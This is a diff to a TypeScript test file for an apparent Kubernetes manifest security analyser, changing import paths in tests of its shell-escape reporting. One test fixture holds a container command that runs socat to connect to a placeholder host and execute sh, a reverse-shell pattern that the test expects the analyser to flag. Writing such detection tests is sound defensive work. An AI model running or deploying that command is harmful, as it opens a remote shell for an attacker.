@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { commandFindings, containerPath, cronJob, findingsOf, job, JOB_POD_SPEC } from './indicator-helpers.ts';
+import { commandFindings, containerPath, cronJob, findingsOf, job, JOB_POD_SPEC } from '../indicator-helpers.js';
 
 /** shell-escape findings for `sh -c <script>`. */
 function escapes(script: string) {
@@ -244,7 +244,7 @@ describe('shell-escape reporting', () => {
   });
 
   test('seed profile keeps shell-escape (it is clause 2)', async () => {
-    const { analyseManifest, DEFAULT_CONFIG } = await import('../src/index.js');
+    const { analyseManifest, DEFAULT_CONFIG } = await import('../../src/index.js');
     const text = cronJob(['containers:', '- name: x', '  image: alpine', '  command: [socat, "tcp:h:1", "exec:sh"]'].join('\n'));
     const result = analyseManifest(text, 'x.yaml', { config: { ...DEFAULT_CONFIG, profile: 'seed' } });
     assert.ok(result.findings.some((finding) => finding.indicator === 'shell-escape'));
